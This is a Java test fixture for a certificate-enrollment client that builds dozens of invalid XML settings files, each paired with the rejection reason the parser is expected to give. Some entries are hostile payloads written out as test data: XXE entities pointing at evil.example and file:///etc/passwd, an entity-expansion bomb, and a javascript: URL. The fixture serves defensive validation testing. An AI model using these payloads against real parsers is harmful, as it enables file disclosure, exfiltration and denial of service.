package org.certdesk.enroll.core;

import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.certdesk.enroll.core.Failure.Reason;

/** Settings files that are no good, each with what is to be said of it. */
public final class BadSettings {
    private static final String ANCHOR =
            "MIIBZjCCAQygAwIBAgIUMiVrsDaVRJUKEsIMzFPTHdMSvJUwCgYIKoZIzj0EAwIwETEPMA0GA1UEAwwGQW5jaG9y";
    private final Map<byte[], Reason> bad = new LinkedHashMap<>();

    private BadSettings() {}

    public static Map<byte[], Reason> all() throws Exception {
        BadSettings settings = new BadSettings();
        settings.fill();
        assertTrue("too few: " + settings.bad.size(), settings.bad.size() >= 60);
        return settings.bad;
    }

    private static String certificate() throws Exception {
        java.security.KeyPairGenerator generator = java.security.KeyPairGenerator.getInstance("EC");
        generator.initialize(256);
        java.security.KeyPair keys = generator.generateKeyPair();
        org.bouncycastle.asn1.x500.X500Name name = new org.bouncycastle.asn1.x500.X500Name("CN=Anchor");
        byte[] der = new org.bouncycastle.cert.X509v3CertificateBuilder(
                        name,
                        java.math.BigInteger.ONE,
                        new java.util.Date(),
                        new java.util.Date(),
                        name,
                        org.bouncycastle.asn1.x509.SubjectPublicKeyInfo.getInstance(
                                keys.getPublic().getEncoded()))
                .build(new org.bouncycastle.operator.jcajce.JcaContentSignerBuilder("SHA256withECDSA")
                        .build(keys.getPrivate()))
                .getEncoded();
        return java.util.Base64.getEncoder().encodeToString(der);
    }

    static String good() throws Exception {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<settings xmlns=\"urn:certdesk:settings:1\" version=\"1\">\n"
                + "  <organisation>FRA1</organisation>\n  <name>La Poste</name>\n  <country>FR</country>\n"
                + "  <desk-url>https://desk.example.org/</desk-url>\n  <key-type>EC P-256</key-type>\n"
                + "  <locality>Lyon</locality>\n  <poll-seconds>60</poll-seconds>\n"
                + "  <trust-anchors><certificate>" + certificate() + "</certificate></trust-anchors>\n</settings>\n";
    }

    private void add(Reason reason, String xml) {
        bad.put(xml.getBytes(StandardCharsets.UTF_8), reason);
    }

    private void replace(Reason reason, String from, String... to) throws Exception {
        String good = good();
        assertTrue(from, good.contains(from));
        for (String each : to) {
            add(reason, good.replace(from, each));
        }
    }

    private static String doctype(String body) throws Exception {
        return good().replace("<settings ", "<!DOCTYPE settings " + body + ">\n<settings ");
    }

    private void fill() throws Exception {
        String good = good();
        for (int part = 1; part < 20; part += 2) { // cut off anywhere
            add(Reason.SETTINGS_NOT_XML, good.substring(0, good.length() * part / 20));
        }
        add(Reason.SETTINGS_NOT_XML, "");
        add(Reason.SETTINGS_NOT_XML, "   \n");
        add(Reason.SETTINGS_NOT_XML, "{\"organisation\": \"FRA1\"}");
        add(Reason.SETTINGS_NOT_XML, "<!-- nothing -->");
        add(Reason.SETTINGS_NOT_XML, good + "<settings/>");
        add(Reason.SETTINGS_NOT_XML, good + "trailing");
        add(Reason.SETTINGS_NOT_XML, good.replace("</name>", "</nom>"));
        add(Reason.SETTINGS_NOT_XML, good.replace("version=\"1\">", "version=\"1>"));
        add(Reason.SETTINGS_NOT_XML, good.replace("La Poste", "La & Poste"));
        add(Reason.SETTINGS_NOT_XML, good.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\""));
        add(Reason.SETTINGS_NOT_XML, good.replace("encoding=\"UTF-8\"", "encoding=\"nonsense\""));
        bad.put(good.getBytes(StandardCharsets.UTF_16), Reason.SETTINGS_NOT_XML);
        bad.put(
                good.replace("La Poste", "La Poste é").getBytes(Charset.forName("ISO-8859-1")),
                Reason.SETTINGS_NOT_XML);
        bad.put(new byte[] {(byte) 0xFF, 0, 1, 2, 3}, Reason.SETTINGS_NOT_XML);
        bad.put(new byte[SettingsFile.LARGEST + 1], Reason.SETTINGS_TOO_LARGE);
        add(Reason.SETTINGS_ROOT, "<a>" + new String(new char[50_000]).replace("\0", "<a>"));

        add(Reason.SETTINGS_DOCTYPE, doctype("SYSTEM \"https://evil.example/x.dtd\""));
        add(Reason.SETTINGS_DOCTYPE, doctype("[<!ENTITY x SYSTEM \"file:///etc/passwd\">]").replace("La Poste", "&x;"));
        add(
                Reason.SETTINGS_DOCTYPE,
                doctype("[<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]")
                        .replace("La Poste", "&c;"));
        add(Reason.SETTINGS_DOCTYPE, doctype("[<!ENTITY % p SYSTEM \"https://evil.example/\"> %p;]"));
        add(Reason.SETTINGS_DOCTYPE, good.replace("La Poste", "&unknown;"));

        add(Reason.SETTINGS_ROOT, "<html><body>Sign in to the network</body></html>");
        add(Reason.SETTINGS_ROOT, good.replace(" xmlns=\"urn:certdesk:settings:1\"", ""));
        add(Reason.SETTINGS_ROOT, good.replace("urn:certdesk:settings:1", "urn:other"));
        add(Reason.SETTINGS_ROOT, good.replace("<settings ", "<setting ").replace("</settings>", "</setting>"));
        add(Reason.SETTINGS_VERSION, good.replace("urn:certdesk:settings:1", "urn:certdesk:settings:2"));
        add(Reason.SETTINGS_VERSION, good.replace("version=\"1\">", "version=\"2\">"));
        add(Reason.SETTINGS_VERSION, good.replace(" version=\"1\">", ">"));

        for (String field : new String[] {"organisation", "name", "country", "desk-url", "key-type", "poll-seconds",
            "trust-anchors"}) {
            String missing = good.replaceAll("(?s)<" + field + ">.*</" + field + ">", "");
            assertFalse(missing.equals(good));
            add(Reason.SETTINGS_FIELD_MISSING, missing);
        }
        replace(Reason.SETTINGS_FIELD_TWICE, "<country>", "<country>FR</country><country>");
        replace(Reason.SETTINGS_UNKNOWN_FIELD, "<country>", "<colour>red</colour><country>");
        replace(Reason.SETTINGS_UNKNOWN_FIELD, "<country>", "<x:name xmlns:x='urn:other'>n</x:name><country>");
        String endless = new String(new char[500]).replace("\0", "n");
        replace(Reason.SETTINGS_UNKNOWN_FIELD, "<country>", "<" + endless + "/><country>");

        replace(Reason.SETTINGS_ORGANISATION, "FRA1", "", "F", "fra1", "FRA-1", "FRA1FRA1FRA1F", "<b>FRA1</b>", "ФРА1");
        replace(Reason.SETTINGS_NAME, "La Poste", "", "La\u202Eetsop", "La\nPoste", "a\u200Bb", "<i/>La Poste");
        replace(Reason.SETTINGS_COUNTRY, "FR<", "fr<", "FRA<", "<", "33<");
        replace(
                Reason.SETTINGS_DESK_URL,
                "https://desk.example.org/",
                "http://desk.example.org/",
                "ftp://desk.example.org/",
                "https://user:pass@desk.example.org/",
                "https://desk.example.org/?a=b",
                "https://desk.example.org/#x",
                "https://desk.example.org:0/",
                "https://desk.example.org:70000/",
                "javascript:alert(1)",
                "https://desk example.org/",
                "desk.example.org",
                "");
        replace(Reason.SETTINGS_KEY_TYPE, "EC P-256", "", "DSA", "RSA 1024", "EC P-257", "ec p-256");
        replace(
                Reason.SETTINGS_POLL_SECONDS,
                ">60<",
                "><", ">0<", ">86401<", ">-1<", ">1.5<", ">99999999999999999999<", ">٦٠<");
        replace(Reason.SETTINGS_LOCALITY, "Lyon", "Ly\u0007on".replace('\u0007', '\u200D'));
        String anchor = "<certificate>";
        replace(
                Reason.SETTINGS_TRUST_ANCHORS,
                anchor,
                "<certificate/>" + anchor,
                "<certificate>%%%</certificate>" + anchor,
                "<certificate>" + ANCHOR + "</certificate>" + anchor,
                "<certificate>AAAA</certificate>" + anchor,
                "<key>x</key>" + anchor,
                "<certificate><b/></certificate>" + anchor);
        add(Reason.SETTINGS_TRUST_ANCHORS, good.replaceAll("<certificate>.*</certificate>", ""));
        StringBuilder many = new StringBuilder();
        for (int count = 0; count < 17; count++) {
            many.append("<certificate>").append(certificate()).append("</certificate>");
        }
        add(Reason.SETTINGS_TRUST_ANCHORS, good.replaceAll("<certificate>.*</certificate>", many.toString()));
    }
}
